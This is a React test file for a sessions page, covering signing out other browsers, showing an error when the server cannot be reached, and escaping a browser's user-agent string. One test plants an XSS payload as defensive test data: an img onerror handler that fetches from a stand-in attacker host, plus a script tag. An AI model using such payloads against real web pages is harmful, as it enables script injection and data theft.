import { screen, waitFor, within } from "@testing-library/react";
import userEvent from "@testing-library/user-event";
import { expect, test } from "vitest";
import { expectNoAxeFaults, render, server } from "@/testing";
import type { Session } from "./api";
import SessionsPage from "./SessionsPage";

const here: Session = {
  id: 1,
  ip: "203.0.113.5",
  user_agent: "Mozilla/5.0 (Windows NT 10.0) Chrome/140.0 Safari/537.36",
  created_at: "2026-11-01T00:00:00Z",
  last_seen_at: "2026-11-20T05:30:00Z",
  is_current: true,
};
const forgotten: Session = { ...here, id: 2, ip: "198.51.100.7", is_current: false };

test("a forgotten browser can be signed out, the one in use cannot", async () => {
  const calls = server({
    "GET /api/v1/sessions": { items: [here, forgotten] },
    "DELETE /api/v1/sessions/2": null,
  });
  const { container } = await render(<SessionsPage />, { room: "staff" });

  const buttons = await screen.findAllByRole("button", { name: "サインアウトさせる" });
  expect(buttons).toHaveLength(1);
  expect(screen.getByText("この端末")).toBeVisible();
  await expectNoAxeFaults(container);

  await userEvent.click(within(container).getByRole("button", { name: "サインアウトさせる" }));

  await waitFor(() => expect(calls()).toContain("DELETE /api/v1/sessions/2"));
  expect(await screen.findByText("Chrome · Windowsをサインアウトさせました。")).toBeVisible();
});

test("a server that cannot be reached is said, with a way to try again", async () => {
  server({});
  await render(<SessionsPage />, { room: "staff" });
  expect(await screen.findByText("見つかりません")).toBeVisible();
});

test("B25: what a browser said of itself is shown as nothing but a browser", async () => {
  const hostile = '<img src=x onerror="fetch(`//evil.example`)"> Chrome/140.0 <script>alert(1)</script>';
  server({ "GET /api/v1/sessions": { items: [{ ...here, user_agent: hostile, ip: hostile }] } });
  const { container } = await render(<SessionsPage />, { room: "staff" });

  expect(await screen.findByText("Chrome")).toBeVisible();
  expect(container.querySelector("img, script")).toBeNull();
});
